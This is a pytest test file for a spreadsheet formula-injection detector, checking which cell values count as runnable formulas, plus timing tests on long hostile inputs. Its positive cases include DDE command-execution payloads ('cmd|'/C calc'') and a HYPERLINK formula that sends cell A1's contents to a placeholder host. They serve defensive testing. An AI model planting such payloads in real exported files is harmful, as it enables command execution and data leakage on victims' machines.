"""What a spreadsheet would compute."""

import pytest
from portal.media.formulas import may_run


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "=cmd|'/C calc'!A0",
        "+cmd|'/C calc'!A0",
        "-cmd|'/C calc'!A0",
        "-2+3+cmd|'/C calc'!D2",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=HYPERLINK("https://vi-du.example?"&A1,"Bấm")',
        "- Mục đầu",
        "@can-bo",
        "  =1",
        "\u00a0=1",
        "'=1",
        '"=1',
        "＝1+1",
        "＠SUM(A1)",
        "a;=1",
        "a\t=1",
        "a\n=1",
        "a, =1",
        "một;-cmd|'/C calc'!A0",
        "một,+SUM(A1)",
    ],
)
def test_a_formula_is_seen(cell):
    assert may_run(cell)


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "chữ",
        "-",
        "–",
        "-5",
        "−5,2 %",
        "+84 24 0000 0000",
        "+(84) 24",
        "a = b",
        "2020-2024",
        "can-bo@cuc-mau.example",
        "a; b; @c",
        "Gồm:\n- mục một\n- mục hai",
        "x, -y",
    ],
)
def test_other_cells_are_no_formula(cell):
    assert not may_run(cell)


@pytest.mark.parametrize("unit", ["\t", ";", " ", "-", ";-", '"', ";=", "a@", "-(1"])
def test_a_hostile_cell_takes_time_in_proportion(growth, unit):
    assert growth(may_run, "x" + unit * 20_000 + "x") <= 2.5
